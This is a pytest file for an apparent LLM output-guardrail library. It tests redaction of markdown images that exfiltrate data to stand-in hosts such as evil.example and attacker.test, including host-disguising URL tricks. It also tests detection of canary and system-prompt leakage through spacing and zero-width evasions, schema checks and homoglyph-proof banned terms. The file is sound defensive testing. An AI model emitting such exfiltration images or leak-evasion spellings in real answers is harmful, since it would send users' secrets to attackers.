"""Output checks: markdown exfiltration, canary/system-prompt leakage, JSON Schema, banned terms."""

from __future__ import annotations

import pytest

from airs_plugins import Action, Shield


def test_markdown_image_with_data_is_removed(shield: Shield) -> None:
    """An image whose URL carries data is redacted out of the answer."""
    text = "Done! ![status](https://evil.example/p.png?d=c3VwZXIgc2VjcmV0IGRhdGEgaGVyZQ) Bye"
    d = shield.check_output(text)
    assert d.action is Action.REDACT
    assert d.redacted == "Done! [IMAGE REMOVED] Bye"


def test_plain_images_and_links_pass(shield: Shield) -> None:
    """Images and links without data in their URLs are fine."""
    text = "See ![logo](https://cdn.example.com/logo.png) and [docs](https://docs.example.com/guide?page=2)."
    d = shield.check_output(text)
    assert d.action is Action.ALLOW
    assert not d.findings


def test_image_with_untrusted_value_scores_higher() -> None:
    """An image URL carrying a value read from a tool result is a confident exfiltration."""
    s = Shield.default()
    ctx = s.check_tool_result("crm", "Customer IBAN GB29NWBK60161331926819").context
    d = s.check_output("![a](https://x.example/i?v=GB29NWBK60161331926819)", context=ctx)
    f = next(f for f in d.findings if f.check == "output.exfil")
    assert f.score >= 0.95
    assert d.action is Action.REDACT


def test_allowed_hosts_option() -> None:
    """Images from allowed hosts are not scored."""
    s = Shield.from_policy({"checks": [{"id": "output.exfil", "action": "redact",
                                        "options": {"allowed_hosts": ["evil.example"]}}]})
    d = s.check_output("![x](https://evil.example/p.png?d=c3VwZXIgc2VjcmV0IGRhdGEgaGVyZQ)")
    assert d.action is Action.ALLOW


@pytest.mark.parametrize("url", ["https://attacker.test\\@cdn.example/p.png", "https:\\\\attacker.test/p.png",
                                 "https://attacker%2Etest/p.png"])
def test_allowed_hosts_are_matched_on_the_host_a_browser_fetches(url: str) -> None:
    """A browser rendering the answer reads the host under the WHATWG rules: for it, these are attacker.test."""
    s = Shield.from_policy({"checks": [{"id": "output.exfil", "action": "redact",
                                        "options": {"allowed_hosts": ["cdn.example"]}}]})
    d = s.check_output(f"![x]({url}?d=c3VwZXIgc2VjcmV0IGRhdGEgaGVyZQ)")
    assert d.action is Action.REDACT


def test_canary_leak_blocks_output_and_tool_call() -> None:
    """A planted canary in output or in tool arguments blocks."""
    s = Shield.from_policy({"canaries": ["CANARY-7f3a91"]})
    assert s.check_output("the prompt says canary-7f3a91 somewhere").action is Action.BLOCK
    assert s.check_tool_call("post", {"body": "CANARY-7f3a91"}).action is Action.BLOCK
    assert s.check_output("nothing to see").action is Action.ALLOW


def test_canary_with_zero_width_is_still_found() -> None:
    """Zero-width characters do not hide a canary."""
    s = Shield.from_policy({"canaries": ["CANARY-7f3a91"]})
    assert s.check_output("CANARY-\u200b7f3a91").action is Action.BLOCK


def test_system_prompt_echo_is_uncertain(shield: Shield) -> None:
    """'My system prompt is…' is recorded as uncertain prompt leakage (judge material)."""
    d = shield.check_output("Sure! My system prompt is: You are a helpful banking assistant.")
    f = next(f for f in d.findings if f.check == "output.leakage")
    assert 0.5 <= f.score < 0.8


def test_output_schema() -> None:
    """Structured output must parse and match the schema (subject schema wins over the policy's)."""
    schema = {"type": "object", "properties": {"answer": {"type": "string"}}, "required": ["answer"]}
    s = Shield.from_policy({"output_schema": schema})
    assert s.check_output('{"answer": "42"}').action is Action.ALLOW
    assert s.check_output('```json\n{"answer": "42"}\n```').action is Action.ALLOW
    d = s.check_output('{"answer": 42}')
    assert d.action is Action.BLOCK
    assert "answer" in d.reason
    assert s.check_output("not json").action is Action.BLOCK
    other = {"type": "array"}
    assert s.check_output("[1, 2]", output_schema=other).action is Action.ALLOW


def test_output_schema_describes_the_answer_only() -> None:
    """Text that comes with tool calls is not the answer: the schema waits for the answer. A structured
    answer is checked as data, whatever text comes with it; a mismatch in any of several is reported."""
    schema = {"type": "object", "properties": {"answer": {"type": "string"}}, "required": ["answer"]}
    s = Shield.from_policy({"output_schema": schema})
    assert s.check_output("Let me look that up.", interim=True).action is Action.ALLOW
    assert s.check_output("Let me look that up.").action is Action.BLOCK
    said = 'Here you go.\n{"answer": "42"}'
    assert s.check_output(said).action is Action.BLOCK
    assert s.check_output(said, structured=[{"answer": "42"}]).action is Action.ALLOW
    d = s.check_output('Here you go.\n{"answer": "42"}\n{"answer": 7}', structured=[{"answer": "42"}, {"answer": 7}])
    assert d.action is Action.BLOCK
    assert "structured answer does not match its schema at answer" in d.reason
    assert s.check_output("{}", structured=[]).action is Action.BLOCK  # no structured value: the text is the answer


def test_banned_terms_after_normalisation() -> None:
    """Banned terms match whole words, through homoglyphs and full-width letters."""
    s = Shield.from_policy({"banned_terms": ["project falcon", "re:\\bacme\\s+merger\\b"]})
    assert s.check_output("Details on Project Falcon follow.").action is Action.BLOCK
    assert s.check_output("Details on Prоject Fаlcon follow.").action is Action.BLOCK  # Cyrillic о, а
    assert s.check_output("the ACME merger is off").action is Action.BLOCK
    assert s.check_output("falconry is a hobby").action is Action.ALLOW


@pytest.mark.parametrize("leak", [
    "C A N A R Y - 7 f 3 a 9 1",  # spelled out, as "write it with spaces between the characters" asks
    "CANARY7f3a91",  # the dash dropped
    "CANARY-\n7f3a91",  # broken over two lines
    "c.a.n.a.r.y.7.f.3.a.9.1",
])
def test_canary_with_separators_is_still_found(leak: str) -> None:
    """Separators put between a canary's characters do not hide it; the span is the spelled-out token."""
    s = Shield.from_policy({"canaries": ["CANARY-7f3a91"]})
    text = f"Sure, the code is {leak}."
    d = s.check_output(text)
    assert d.action is Action.BLOCK
    f = next(f for f in d.findings if f.check == "output.leakage")
    assert [text[a:b] for a, b in f.spans] == [leak]


def test_short_canary_needs_its_exact_spelling() -> None:
    """A token too short to stay unique with gaps allowed (``ab-12``) matches only as written."""
    s = Shield.from_policy({"canaries": ["ab-12"]})
    assert s.check_output("a b 1 2 and ab12").action is Action.ALLOW
    assert s.check_output("token ab-12 here").action is Action.BLOCK
